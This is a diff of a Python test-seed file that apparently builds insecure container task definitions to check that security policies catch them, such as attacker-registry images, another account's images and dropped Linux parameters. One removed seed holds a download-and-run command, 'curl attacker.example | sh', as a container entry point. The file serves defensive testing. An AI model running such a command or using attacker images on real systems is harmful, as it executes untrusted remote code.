@@ -205,6 +205,7 @@ SEEDS = (
         **TASK,
         **LATER,
         change=container(lambda one: one.update(image="docker.io/attacker/python:latest")),
+        besides=(("own-resources-only", "dth-dual-cn-finder-start-policy"),),
     ),
     Seed(
         "image-of-another-account",
@@ -212,6 +213,7 @@ SEEDS = (
         **TASK,
         **LATER,
         change=container(lambda one: one.update(image=one["image"].replace(CN, "999999999999"))),
+        besides=(("own-resources-only", "dth-dual-cn-finder-start-policy"),),
     ),
     Seed(
         "image-by-tag",
@@ -227,14 +229,6 @@ SEEDS = (
         **TASK,
         **LATER,
         change=container(lambda one: one.pop("linuxParameters")),
-    ),
-    Seed(
-        "folder-prepared-by-another-command",
-        "boot-as-built",
-        **TASK,
-        **LATER,
-        change=container(lambda one: one.update(entryPoint=["sh", "-c", "curl attacker.example | sh"]), "prepare"),
-        also=("container-confined",),
     ),
     Seed(
         "privileged-container",
